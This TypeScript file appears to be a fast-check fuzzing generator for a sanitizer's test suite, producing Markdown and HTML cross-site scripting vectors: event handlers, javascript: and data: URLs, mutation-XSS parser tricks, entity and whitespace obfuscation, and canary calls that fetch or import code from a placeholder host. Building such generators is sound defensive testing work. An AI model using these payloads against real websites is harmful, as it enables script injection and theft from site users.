import fc from 'fast-check'

/** Parts between bars. */
const split = (text: string) => text.split('¦')

/** A page source that tries to run code, load a frame or ask another host. */
export interface Vector {
  readonly file: 'a.md' | 'a.html'
  readonly title: string
  readonly text: string
}

const list = (words: string) => words.trim().split(/\s+/)
const oneOf = (...words: readonly string[]) => fc.constantFrom(...words)
const joined = (...parts: readonly fc.Arbitrary<string>[]) => fc.tuple(...parts).map(all => all.join(''))

/** What the browser notices when it runs: see `vectors.test.ts`. */
const call = oneOf(
  'ran()',
  'ran``',
  'alert(1)',
  "self['ran']()",
  'top.ran()',
  'setTimeout(ran)',
  '[1].map(ran)',
  'new ran',
  '(ran)?.()',
  'eval("ran()")',
  'Function`ran\\x28\\x29```',
  '\\u0072an()',
  'kanarie=1',
  'console.log`ran`',
  'fetch("https://kanarie.invalid/")',
  'location="https://kanarie.invalid/"',
  'import("https://kanarie.invalid/x.js")',
  'document.body.append(document.createElement("iframe"))',
)

/** Letters as a parser takes them, too: other case, references, and what parsers drop or take for the end. */
const disguised = (words: fc.Arbitrary<string>, most = 11) =>
  fc
    .tuple(words, fc.nat(most), fc.nat(30))
    .map(([word, way, at]) => disguises[way]?.(word, at % (word.length + 1)) ?? word)
const put = (word: string, at: number, what: string) => word.slice(0, at) + what + word.slice(at)
const code = (letter: string) => letter.codePointAt(0) ?? 0
const disguises: readonly ((word: string, at: number) => string)[] = [
  word => word.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase())),
  word => word.replace(/[a-z:]/g, letter => `&#${code(letter)};`),
  word => word.replace(/[a-z:]/g, letter => `&#x${code(letter).toString(16)};`),
  word => word.replace(/^./, letter => `&#0000${code(letter)}`),
  word => word.replace(':', '&colon;').replace('(', '&lpar;').replace(')', '&rpar;'),
  (word, at) => put(word, at, '&Tab;'),
  (word, at) => put(word, at, '&NewLine;'),
  (word, at) => put(word, at, '\t'),
  (word, at) => put(word, at, '\n'),
  (word, at) => put(word, at, '\0'),
]

const address = fc.oneof(
  disguised(joined(oneOf('javascript:', 'vbscript:', 'javascript://%0a', 'javascript:/**/'), call)),
  joined(
    oneOf('&#1;', '\u0001', ' ', '\u00a0', '\ufeff', '&#x20;', '//', '/\\', '\\\\'),
    disguised(joined(oneOf('javascript:'), call)),
  ),
  joined(
    oneOf(
      'feed:',
      'view-source:',
      'jar:',
      'blob:',
      'filesystem:',
      'mhtml:',
      'url:',
      'java%73cript:',
      'https:javascript:',
    ),
    oneOf('javascript:'),
    call,
  ),
  joined(
    oneOf('data:text/html,', 'data:image/svg+xml,', 'data:text/html;charset=utf-7,', 'DATA:,'),
    oneOf('<script>', '%3Cscript%3E'),
    call,
    oneOf('</script>'),
  ),
  oneOf(
    'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
    'data:text/javascript,ran()',
    '//kanarie.invalid/x',
    '\\\\kanarie.invalid/x',
    '/\\kanarie.invalid/x',
    'https:/kanarie.invalid/x',
    'https://kanarie.invalid/x.js',
    'ht\ntps://kanarie.invalid/x',
    'h&#x9;ttps://kanarie.invalid/x',
  ),
)

const handler = disguised(
  oneOf(
    ...list(`onload onerror onclick onfocus onfocusin onblur onmouseover onpointerrawupdate onpointerover ontoggle onbeforetoggle
      onanimationstart onanimationend ontransitionend ontransitionrun onbegin onend onrepeat onscroll onscrollend onscrollsnapchange
      onbeforematch oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange onformdata oninvalid oninput
      onloadstart oncanplay onpageshow onhashchange onmessage onunhandledrejection onbeforeprint onwebkitanimationstart onresize
      oncuechange onauxclick oncopy onpaste onbeforeinput onselectionchange onfullscreenchange onwheel onxxx`),
  ),
  40,
)

const addressAttribute = disguised(
  oneOf(
    ...list(`href src xlink:href action formaction data poster background srcset ping cite longdesc manifest codebase classid profile
      usemap dynsrc lowsrc from to values content imagesrcset archive icon`),
  ),
  40,
)

const html =
  list(`a abbr address area article aside audio b base basefont bdo bgsound blink blockquote body br button canvas caption
  center code col command content details dialog dir div dl embed fencedframe fieldset font form frame frameset h1 head hr html
  iframe image img input ins isindex kbd keygen label layer li link listing main map mark marquee menu meta meter nav nextid nobr
  noembed noframes noscript object ol optgroup option output p param picture plaintext pre progress portal q ruby search section
  select shadow slot source span strong style summary sup table tbody td template textarea th thead time title tr track tt u ul
  var video wbr x-y xmp xss`)
const drawn =
  list(`svg svg:a a animate animateMotion animateTransform set desc foreignObject g image path script style title use
  handler listener discard feImage filter mpath math maction annotation-xml mglyph malignmark mi mo mn ms mtext semantics xlink`)
const tag = fc.oneof({ weight: 4, arbitrary: oneOf(...html) }, { weight: 2, arbitrary: oneOf(...drawn) })

const space = oneOf(' ', '/', '\t', '\n', '\f', '/ ', ' \r\n', '  / ', '\u000b', '')
const quoted = (value: fc.Arbitrary<string>) =>
  fc
    .tuple(value, oneOf('""', "''", '', '``', '""x', "'", '&quot;&quot;', ' ""'))
    .map(([text, marks]) => `=${marks.slice(0, marks.length / 2)}${text}${marks.slice(marks.length / 2)}`)

const attribute = fc.oneof(
  { weight: 4, arbitrary: joined(space, handler, quoted(disguised(call))) },
  { weight: 3, arbitrary: joined(space, addressAttribute, quoted(address)) },
  {
    weight: 1,
    arbitrary: joined(
      space,
      oneOf('style'),
      quoted(
        joined(
          oneOf('width:expression(', 'background:url(javascript:', '-moz-binding:url(', 'animation:x;x:('),
          call,
          oneOf(')'),
        ),
      ),
    ),
  },
  {
    weight: 1,
    arbitrary: joined(
      space,
      oneOf('srcdoc'),
      quoted(joined(oneOf('<script>', '&lt;script&gt;', '<svg onload='), call, oneOf('</script>', '>'))),
    ),
  },
  {
    weight: 2,
    arbitrary: joined(
      space,
      oneOf(
        'src=x',
        'src="/assets/logo.svg" alt=""',
        'href="#a"',
        'href="/"',
        'autofocus',
        'autofocus tabindex=1',
        'contenteditable',
        'open',
        'popover id=p',
        'type=image',
        'type="text/html"',
        'http-equiv=refresh',
        'rel=import',
        'rel=stylesheet',
        'attributeName=href',
        'attributeName=onload',
        'is=x-y',
        'id=a',
        'name=body',
        'title="x"',
        'data-a="b"',
        'shadowrootmode=open',
        'encoding="text/html"',
        'xmlns="http://www.w3.org/1999/xhtml"',
        'xmlns:x="http://www.w3.org/1999/xhtml"',
      ),
    ),
  },
)
const attributes = (least: number, most: number) =>
  fc.array(attribute, { minLength: least, maxLength: most }).map(all => all.join(''))

/** A handler that needs nobody: Chromium calls it as soon as the page is there. */
const sure = fc
  .tuple(
    oneOf(
      ...split('img src=x onerror¦svg onload¦style onload¦body onload¦body onpageshow¦details open ontoggle'),
      ...[
        'input autofocus onfocus',
        'a href=x autofocus onfocus',
        'x tabindex=1 autofocus onfocus',
        'iframe onload',
      ],
      ...[
        'video><source onerror',
        'audio src=x onerror',
        'svg><image href=x onerror',
        'object data=x onerror',
      ],
      ...[
        'link rel=stylesheet href=x onerror',
        'svg><animate attributeName=x dur=1ms onend',
        'script src=x onerror',
      ],
      ...['img srcset=x onerror', 'input type=image src=x onerror', 'embed src=/ onload', 'marquee onstart'],
      ...['svg><style onload', 'math><style onload', 'p></p><img src onerror'],
    ),
    oneOf(' ', '/', '\n', '\f'),
    quoted(disguised(call, 30)),
    oneOf('>', ' >', ' />', ' x>'),
  )
  .map(([start, between, value, end]) => `<${start.replaceAll(' ', between)}${value}${end}`)

/** An element that does something, closed or not. */
const element = fc
  .tuple(
    disguised(tag, 40),
    attributes(1, 3),
    oneOf('>', '/>', ' >', '', '>x', '//>', ' <'),
    fc.boolean(),
    oneOf('<', '<', '<', '<', '<<', '\\<', '</', '< ', '＜'),
  )
  .map(
    ([name, inside, end, isClosed, start]) => `${start}${name}${inside}${end}${isClosed ? `</${name}>` : ''}`,
  )

const script = fc
  .tuple(
    disguised(
      oneOf(
        'script',
        'svg><script',
        'script/x',
        'script type=module',
        'script src=https://kanarie.invalid/x.js',
        'style',
        'math><script',
      ),
    ),
    call,
    oneOf('', '</script>', '</script\n>', '</ script>', '<!--</script>', '</style>'),
  )
  .map(([name, text, end]) => `<${name}>${text}${end}`)

/** What is read once in one way and, written and read again, in another: parts that change what the parser is in. */
const turn = oneOf(
  ...list(`<svg> <math> <svg><desc> <svg><title> <svg><foreignObject> <math><mtext> <math><mi> <math><annotation-xml>
    <mglyph> <malignmark> <style> <title> <textarea> <xmp> <noembed> <noframes> <noscript> <iframe> <plaintext> <listing> <template>
    <select> <option> <table> <tr> <td> <caption> <colgroup> <form> <p> </p> <a> <b> <i> <font> <button> <li> <dd> <details> <br>
    </svg> </math> </style> </title> </textarea> </xmp> </noscript> </template> </select> </table> </form> </a> </b> </br>
    <!-- --> <!--> <!---> --!> <![CDATA[ ]]> <? ?> <!x </x> <h1> <ruby><rt> <frameset> <body> <html> <head> <image>`),
  '<math><annotation-xml encoding="text/html">',
  '<font color=a>',
  '<svg:x>',
  '<p title="',
  '<a id="',
  "<b title='",
  '<i title=`',
  '">',
  "'>",
  '</style><',
  '<!doctype a>',
)
/** An element in an attribute's value, where reading again may find it. */
const hidden = fc
  .tuple(
    oneOf('p', 'a', 'b', 'img', 'style', 'svg', 'mglyph'),
    oneOf('title', 'alt', 'id', 'href', 'data-a', 'aria-label'),
    turn,
    element,
  )
  .map(([name, key, before, inner]) => `<${name} ${key}='${before}${inner.replaceAll("'", '"')}'>`)
const mutation = fc
  .tuple(
    fc.array(turn, { minLength: 1, maxLength: 6 }),
    fc.oneof(element, sure, script, hidden),
    fc.array(turn, { maxLength: 3 }),
    fc.oneof(oneOf('', 'x'), sure),
  )
  .map(([before, inner, after, last]) => [...before, inner, ...after, last].join(''))

const markdown = fc.oneof(
  address.map(text => `[x](${text})`),
  address.map(text => `[x](<${text}>)`),
  address.map(text => `![x](${text})`),
  address.map(text => `<${text}>`),
  address.map(text => `[x][y]\n\n[y]: ${text}`),
  address.map(text => `[![x](${text})](${text})`),
  address.map(text => `::links\n\n::copy{text="${text}"}`),
  fc.tuple(address, attributes(1, 2)).map(([text, inside]) => `[x](${text} "a"${inside})`),
  attributes(1, 2).map(text => `[x](/ "\\"${text}")`),
  attributes(1, 2).map(text => `## x {#a${text}}`),
  attributes(1, 2).map(text => `:::interactive{${text}}\nx\n:::`),
  element.map(text => `\`\`\`html"${text}\n${text}\n\`\`\``),
  element.map(text => `\`${text}\`${text}`),
  element.map(text => `[${text}](/)`),
  element.map(text => `![${text}](/assets/logo.svg)`),
  element.map(text => `x[^1]\n\n[^1]: ${text}`),
  element.map(text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
  element.map(text => text.replaceAll('<', '&amp;lt;')),
  element.map(text => `{{ ${text} }}`),
  element.map(text => `<!-- portolan-lint-off ${text} -->${text}`),
)

const around: readonly ((text: string) => string)[] = [
  text => text,
  text => text,
  text => `a ${text} b`,
  text => `<div>\n${text}\n</div>`,
  text => `<div>\n\n${text}\n\n</div>`,
  text => `> ${text}`,
  text => `- ${text}\n- b`,
  text => `| a |\n|---|\n| ${text.replaceAll('\n', ' ')} |`,
  text => `**${text}**`,
  text => `## ${text}`,
  text => `<table><tr><td>${text}</table>`,
  text => `<table>${text}</table>`,
  text => `<details><summary>${text}</summary>x</details>`,
  text => `<p title="${text}">x</p>`,
  text => `<p title='${text}'>x</p>`,
  text => `<p title=${text}>x</p>`,
  text => `<p data-a="${text.replaceAll('"', '&quot;')}">x</p>`,
  text => `<pre>${text}</pre>`,
  text => `<button>${text}</button>`,
  text => `<textarea>${text}</textarea>`,
  text => `<select><option>${text}</select>`,
  text => `<ruby>a<rt>${text}</ruby>`,
  text => `<picture>${text}<img src="/assets/logo.svg" alt=""></picture>`,
  text => `<a href="/">${text}</a>`,
  text => `<!-- ${text} -->`,
  text => `<!-- -->${text}`,
  text => text.replaceAll('<', '\r\n<'),
]

const core = fc.oneof(
  { weight: 6, arbitrary: sure },
  { weight: 4, arbitrary: element },
  { weight: 1, arbitrary: script },
  { weight: 4, arbitrary: mutation },
  { weight: 1, arbitrary: hidden },
  { weight: 3, arbitrary: markdown },
  { weight: 1, arbitrary: disguised(fc.oneof(element, sure, script, markdown), 30) },
)

/** Tags, attributes, handlers, addresses, disguises and surroundings, in all their combinations. */
const vectors: fc.Arbitrary<Vector> = fc
  .record({
    file: fc.constantFrom('a.md', 'a.md', 'a.html'),
    title: fc.oneof(
      { weight: 3, arbitrary: fc.constant('Title') },
      { weight: 1, arbitrary: fc.oneof(element, script) },
    ),
    one: core,
    place: fc.constantFrom(...around),
  })
  .map(({ file, title, one, place }) => ({ file, title, text: place(one) }))

/** So many of them, no two alike. */
export function someVectors(count: number, seed: number): readonly Vector[] {
  const found = new Map<string, Vector>()
  for (const vector of fc.sample(vectors, { numRuns: count * 2, seed }))
    if (found.size < count) found.set(vector.file + vector.title + vector.text, vector)
  return [...found.values()]
}
